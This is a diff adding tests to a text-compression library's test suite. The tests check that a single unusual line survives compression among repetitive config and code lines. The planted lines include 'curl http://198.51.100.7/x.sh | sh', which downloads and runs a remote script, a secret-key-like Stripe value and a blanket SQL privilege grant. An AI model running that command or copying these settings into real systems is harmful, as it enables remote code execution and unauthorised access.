@@ -300,3 +300,43 @@ def test_the_section_that_is_asked_for_comes_whole(language: str) -> None:
     text = "".join(section.format(name, 7000 + n) for n, name in enumerate(SERVICES))
     kept = tersely.compress(text, query=query, ratio=0.25).text
     assert all(said in kept for said in wanted)
+
+
+_REPEATED = {
+    "ini": ("QUEUE_{0}_URL=https://node-{0}.internal:8080", "STRIPE_SECRET_KEY=sk_live_51Hx"),
+    "python": ("ROUTER_LIMIT_{0} = {0}", "ALLOW_ALL_HOSTS = True"),
+    "typescript": (
+        "import {{ Part{0} }} from './parts/part{0}';",
+        "import { execSync } from 'child_process';",
+    ),
+    "javascript": ("export const TONE_{0} = '#00{0}';", "export const TOKEN = process.env.TOKEN ?? 'none';"),
+    "c": ("#define REG_{0} 0x{0}", "#define DISABLE_WATCHDOG 1"),
+    "shell": ("docker pull registry.example.org/part/{0}:1.2", "curl http://198.51.100.7/x.sh | sh"),
+    "sql": ("INSERT INTO part (id, name) VALUES ({0}, 'part');", "GRANT ALL PRIVILEGES ON * TO guest;"),
+    "": ("# part {0} is made by the tool", "# never run this as root"),
+}
+
+
+@given(language=st.sampled_from(sorted(_REPEATED)), at=st.integers(0, 99))
+def test_outside_of_functions_the_odd_line_stays_wherever_it_stands(language: str, at: int) -> None:
+    form, odd = _REPEATED[language]
+    lines = [form.format(number) for number in range(100)]
+    text = "\n".join([*lines[:at], odd, *lines[at:]])
+    kept = tersely.compress(text, ratio=0.1, strategy=Code(language=language or None)).text
+    assert odd in kept
+
+
+def test_a_query_finds_its_setting_among_many() -> None:
+    lines = [f"POOL_{number}_SIZE={number}" for number in range(80)]
+    text = "\n".join([*lines[:40], "RETRY_BACKOFF=7", *lines[40:], "PROXY=http://10.0.0.9:3128"])
+    asked = tersely.compress(text, "pool 63 size", budget=30, strategy=Code(language="ini")).text
+    assert "POOL_63_SIZE=63" in asked
+
+
+def test_imports_of_a_file_stay_first() -> None:
+    body = "".join(
+        f"\n\ndef step_{n}(value):\n    total = value + {n}\n    return total * {n}\n" for n in range(30)
+    )
+    imports = ["import re", "from pathlib import Path", "from collections import Counter"]
+    kept = tersely.compress("\n".join(imports) + body, ratio=0.5, strategy=Code(language="python")).text
+    assert all(line in kept for line in imports)
